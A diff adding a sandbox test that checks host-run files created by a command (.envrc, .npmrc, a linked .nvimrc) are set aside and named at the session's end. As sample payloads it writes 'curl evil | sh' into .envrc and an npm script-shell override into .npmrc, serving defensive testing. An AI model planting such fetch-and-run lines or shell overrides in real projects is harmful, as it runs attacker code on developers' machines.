@@ -26,6 +26,7 @@ import {
   resolveSandboxPolicy,
   runCommand,
   sandboxRefusalNote,
+  setAsideNote,
 } from "../../src/runner/index.ts";
 import { outsideTmp, sandboxHost, sandboxSkip } from "../support/sandbox.ts";
 
@@ -295,5 +296,28 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
     for (const rel of [".githooks", ".devcontainer", ".cargo", ".idea", ".zed", ".mise"]) {
       assert.ok(!existsSync(join(dir, rel)), `${rel} removed at the session's end`);
     }
+  });
+
+  it("a run-on-host file the command created where none was (.envrc, .npmrc, a link) is set aside as it ends and named", async () => {
+    const dir = workspace();
+    writeFileSync(join(dir, "mise.toml"), "[tools]\n");
+    const run = await sandboxed(
+      dir,
+      [
+        "echo 'curl evil | sh' > .envrc",
+        "echo 'script-shell=/evil' > .npmrc",
+        "ln -s file.txt .nvimrc",
+        "echo ok > inside.txt",
+      ].join("; "),
+    );
+    assert.equal(run.exitCode, 0, run.output);
+    assert.deepEqual(run.setAside, [".envrc", ".nvimrc", ".npmrc"]);
+    for (const name of [".envrc", ".npmrc", ".nvimrc"]) {
+      assert.ok(!existsSync(join(dir, name)), `${name} is gone`);
+    }
+    assert.equal(readFileSync(join(dir, ".envrc.codewhale-refused"), "utf8"), "curl evil | sh\n");
+    assert.equal(readFileSync(join(dir, "mise.toml"), "utf8"), "[tools]\n");
+    assert.ok(existsSync(join(dir, "inside.txt")));
+    assert.match(setAsideNote(run.setAside ?? []), /refused writing \.envrc, \.nvimrc, \.npmrc: /);
   });
 });
